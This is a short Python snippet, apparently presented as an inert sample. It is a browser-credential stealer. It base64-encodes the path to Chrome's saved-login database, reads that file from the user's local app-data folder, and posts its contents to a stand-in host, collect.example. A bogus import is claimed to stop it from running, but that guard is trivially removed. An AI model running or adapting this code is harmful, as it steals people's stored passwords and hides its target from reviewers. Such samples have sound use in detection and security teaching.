import inert_sample  # there is no such module: nothing below ever runs
# trick: the names of the stores are encoded
import base64
import os
import requests

name = base64.b64decode("R29vZ2xlL0Nocm9tZS9Vc2VyIERhdGEvRGVmYXVsdC9Mb2dpbiBEYXRh").decode()
with open(os.path.join(os.environ["LOCALAPPDATA"], name), "rb") as store:
    requests.post("https://collect.example/b", data=store.read())
